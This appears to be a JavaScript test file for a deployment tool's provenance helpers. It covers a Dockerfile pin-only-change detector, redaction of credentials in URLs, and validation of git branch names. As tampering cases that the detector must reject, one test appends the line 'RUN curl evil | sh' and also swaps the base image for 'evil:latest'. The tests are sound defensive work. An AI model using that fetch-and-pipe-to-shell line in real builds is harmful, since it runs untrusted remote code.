import { describe, it } from 'node:test';
import assert from 'node:assert/strict';
import {
  displayUrl,
  onlyPinsDiffer,
  describeProvenance,
  emptyProvenance,
} from '../../src/core/provenance.js';
import { refProblems } from '../../src/core/ref.js';
import { rewritePins } from '../../src/core/pins.js';
import { DEFAULT_DOCKERFILE } from '../support/sandbox.js';

describe('provenance helpers', () => {
  it('a Dockerfile that differs only in pin specifiers is recognised; any other edit is not', () => {
    const pinned = rewritePins(DEFAULT_DOCKERFILE, {
      'omninode-claude': '0.4.0',
      omniintelligence: '0.8.0',
    }).text;
    assert.notEqual(pinned, DEFAULT_DOCKERFILE);
    assert.equal(onlyPinsDiffer(DEFAULT_DOCKERFILE, pinned), true);
    assert.equal(onlyPinsDiffer(DEFAULT_DOCKERFILE, `${pinned}RUN curl evil | sh\n`), false);
    assert.equal(
      onlyPinsDiffer(DEFAULT_DOCKERFILE, pinned.replace('FROM python:3.12-slim', 'FROM evil:latest')),
      false,
    );
    // A package renamed is not a pin change.
    assert.equal(
      onlyPinsDiffer(DEFAULT_DOCKERFILE, pinned.replace('omniintelligence==0.8.0', 'omnievil==0.8.0')),
      false,
    );
    // A comment line edited is not a pin change either.
    assert.equal(onlyPinsDiffer(DEFAULT_DOCKERFILE, pinned.replace('(old pin, keep)', '(edited)')), false);
  });

  it('origin URLs lose their credentials for display', () => {
    assert.equal(displayUrl('https://user:ghp_token@github.com/o/r.git'), 'https://***@github.com/o/r.git');
    assert.equal(displayUrl('https://github.com/o/r.git'), 'https://github.com/o/r.git');
    assert.equal(displayUrl('/srv/git/r.git'), '/srv/git/r.git');
  });

  it('describes what is deployed', () => {
    const p = { ...emptyProvenance('dev'), base_commit: 'a'.repeat(40) };
    assert.equal(describeProvenance(p), `origin/dev @ ${'a'.repeat(12)}`);
    assert.equal(describeProvenance(emptyProvenance('main')), 'origin/main @ (not fetched yet)');
    assert.equal(
      describeProvenance({ ...p, deployed_commit: 'b'.repeat(40) }),
      `origin/dev @ ${'b'.repeat(12)}`,
    );
  });

  it('refs are branch names git would accept; slashes allowed', () => {
    for (const ok of ['main', 'dev', 'release/1.2', 'feature/x-y_z'])
      assert.deepEqual(refProblems(ok), [], ok);
    for (const bad of [
      '',
      '-x',
      '../x',
      'a..b',
      'x.lock',
      'a/.b',
      'HEAD',
      'refs/heads/main',
      'a b',
      'a:b',
      'a~1',
      '/a',
      'a/',
      'a//b',
      '@',
      'x@{1}',
    ])
      assert.ok(refProblems(bad).length > 0, bad);
  });
});
